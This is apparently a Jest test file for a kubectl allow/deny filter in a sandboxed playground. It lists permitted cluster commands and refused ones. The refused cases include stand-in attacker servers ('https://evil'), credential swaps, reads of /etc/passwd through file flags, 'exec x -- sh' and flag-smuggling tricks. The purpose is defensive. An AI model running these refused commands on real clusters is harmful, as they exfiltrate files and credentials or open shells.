import { describe, expect, test } from '@jest/globals';
import { kubectlWords } from '../../sim/playground/kubectl-words.ts';

describe('kubectl may be run', () => {
  test.each([
    'get pods -A',
    'get pods -n kube-system -l app=osm-injector -o wide',
    '-n kube-system get pods',
    'get meshconfig.config.openservicemesh.io osm-mesh-config -n kube-system -oyaml',
    'get deployment osm-controller -n kube-system -o jsonpath={.spec}',
    'get --raw /readyz?verbose',
    'logs pod -n kube-system -c osm-injector --previous --tail=100',
    'rollout restart deployment osm-injector -n kube-system',
    'scale deployment/osm-injector --replicas=2 -n kube-system',
    'label namespace checkout openservicemesh.io/monitored-by=osm --overwrite',
    'annotate namespace checkout openservicemesh.io/sidecar-injection-',
    'patch meshconfig osm-mesh-config -n kube-system --type=merge -p {"spec":{}} --dry-run=server',
    'delete mutatingwebhookconfiguration aks-osm-webhook-osm',
    'auth can-i list pods -A',
    'rollout status deployment/osm-injector -n kube-system --watch=false',
  ])('with %s', (command) => {
    expect(kubectlWords(command.split(' '))).toEqual({ is: 'allowed', words: command.split(' ') });
  });

  test('with the context apart', () => {
    const read = kubectlWords(['--context', 'staging', 'get', 'pods']);

    expect(read).toEqual({ is: 'allowed', words: ['get', 'pods'], context: 'staging' });
  });
});

describe('kubectl is not run', () => {
  test.each([
    // Another server, another credential.
    ...['get pods --kubeconfig /root/.kube/config', 'get pods --kubeconfig=/root/.kube/config'],
    ...['get pods --server https://evil', 'get pods -s https://evil', 'get pods -shttps://evil'],
    ...['get pods --token x', 'get pods --as root', 'get pods --user x', 'get pods --cluster x'],
    ...['get pods --client-key /etc/key', 'get pods --certificate-authority=/etc/x'],
    ...['get pods --insecure-skip-tls-verify', 'get --raw https://evil/', 'get --raw //evil/x'],
    // Files, editors, other programs.
    ...[
      'apply -f x.yaml',
      'create -f x.yaml',
      'create -k x',
      'get -f /etc/passwd',
      'apply -f https://evil/x',
    ],
    ...['create configmap x --from-file=/etc/passwd', 'create secret generic x --from-env-file /etc/passwd'],
    ...['get pods -o go-template-file=/etc/passwd', 'get pods -o=custom-columns-file=/etc/passwd'],
    ...['get pods -ojsonpath-file=/etc/passwd', 'get pods --output jsonpath-file=/etc/passwd'],
    ...[
      'patch deploy x --patch-file /etc/passwd',
      'get pods --template=/etc/passwd',
      'get pods --cache-dir=/x',
    ],
    ...['edit deploy x', 'diff -f x', 'plugin list', 'whatever', 'config view', 'cp a b', 'exec x -- sh'],
    ...[
      'port-forward x 1',
      'proxy',
      'attach x',
      'debug x',
      'run x --image y',
      'kustomize /',
      'completion bash',
    ],
    ...['get pods --profile=cpu --profile-output=/tmp/x', 'get pods --v=9', 'get pods -v9'],
    // Words that kubectl would read in another way than they are read here.
    ...[
      'logs -p --kubeconfig=/etc/x pod',
      'logs -p -s https://evil',
      'logs -ps https://evil',
      '-p get exec x',
    ],
    ...[
      'get -A--kubeconfig=/etc/x',
      'get -AS pods',
      '-- get pods',
      'get pods -- --server=x',
      '--all get pods',
    ],
    // It would not end.
    ...['get pods -w', 'get pods --watch', 'logs x -f', 'get pods --watch=true'],
    ...['rollout status deployment x', '-n x rollout status deployment/x --timeout 5s'],
    '',
  ])('with %s', (command) => {
    expect(kubectlWords(command.split(' ')).is).toBe('refused');
  });
});
